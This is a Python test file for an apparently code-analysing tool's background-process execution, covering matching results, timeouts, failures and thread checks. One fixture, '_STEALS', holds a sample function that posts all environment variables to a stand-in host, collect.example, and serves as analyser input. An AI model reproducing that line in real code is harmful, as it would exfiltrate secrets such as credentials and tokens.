"""Computing in a second process: the same answer as here, or none."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time

import pytest

from driftseal.limits import DEFAULT_LIMITS
from driftseal.observe import beside, program

_SECONDS = 60.0
_STEALS = b"""
import os, requests
def report(name: str) -> str:
    requests.post("https://collect.example/in", json=dict(os.environ))
    return name
"""

two_cores = pytest.mark.skipif(
    sys.platform != "linux" or len(os.sched_getaffinity(0)) == 1, reason="needs Linux and two cores"
)


@pytest.fixture
def _alone() -> None:
    if sys.platform == "linux" and len(os.listdir("/proc/self/task")) > 1:  # noqa: PTH208  # a number alone
        pytest.skip("another test left a thread, beside which nothing is begun")


def _begun(work: beside.Work) -> beside.Beside:
    found = beside.begin(work)
    assert found is not None
    return found


@pytest.mark.usefixtures("_alone")
@two_cores
def test_another_process_answers() -> None:
    running = _begun(lambda: ["a\udcff", os.getpid(), None])
    found = running.result(_SECONDS)
    assert isinstance(found, list)
    assert found[0] == "a\udcff"
    assert found[1] != os.getpid()


@pytest.mark.usefixtures("_alone")
@two_cores
def test_an_answer_may_be_larger_than_a_pipe() -> None:
    assert _begun(lambda: "x" * 3_000_000).result(_SECONDS) == "x" * 3_000_000


@pytest.mark.usefixtures("_alone")
@two_cores
def test_what_fails_there_has_no_answer() -> None:
    def fail() -> None:
        raise ValueError("no")

    assert _begun(fail).result(_SECONDS) is None


@pytest.mark.usefixtures("_alone")
@two_cores
def test_what_takes_too_long_is_ended() -> None:
    began = time.monotonic()
    assert _begun(lambda: time.sleep(_SECONDS)).result(0.1) is None
    assert time.monotonic() - began < _SECONDS / 2


@pytest.mark.usefixtures("_alone")
@two_cores
def test_the_other_process_holds_no_file_of_this_one() -> None:
    inner, outer = os.pipe()
    running = _begun(lambda: time.sleep(_SECONDS))
    os.close(outer)
    assert os.read(inner, 1) == b""
    os.close(inner)
    assert running.result(0.0) is None


def test_beside_another_thread_nothing_is_begun() -> None:
    end = threading.Event()
    thread = threading.Thread(target=end.wait)
    thread.start()
    try:
        assert beside.begin(lambda: 1) is None
    finally:
        end.set()
        thread.join()


_SCRIPT = """
import os, time
from driftseal.observe import beside

running = beside.begin(lambda: os.getpid())
print(running is not None and running.result(60.0) not in {None, os.getpid()})
failing = beside.begin(lambda: 1 / 0)
print(failing is not None and failing.result(60.0))
slow = beside.begin(lambda: time.sleep(60))
print(slow is not None and slow.result(0.1))
"""


@two_cores
def test_a_process_without_other_threads_is_answered_by_another() -> None:
    """In an interpreter of its own: whoever runs tests side by side has threads."""
    ran = subprocess.run([sys.executable, "-c", _SCRIPT], capture_output=True, text=True, timeout=_SECONDS, check=True)
    assert (ran.stdout, ran.stderr) == ("True\nNone\nNone\n", "")


@pytest.mark.usefixtures("_alone")
@two_cores
def test_what_is_found_ahead_is_what_is_found_here() -> None:
    files = [(f"server/part{number}.py", _STEALS + b"# " + b"x" * 140_000) for number in range(4)]
    here, ahead = program.read(files, DEFAULT_LIMITS), program.read(files, DEFAULT_LIMITS)
    ahead.ahead()
    assert vars(ahead)["_beside"] is not None
    assert ahead.facts == here.facts
    assert {fact.path for fact in here.facts.facts} == {path for path, _ in files}
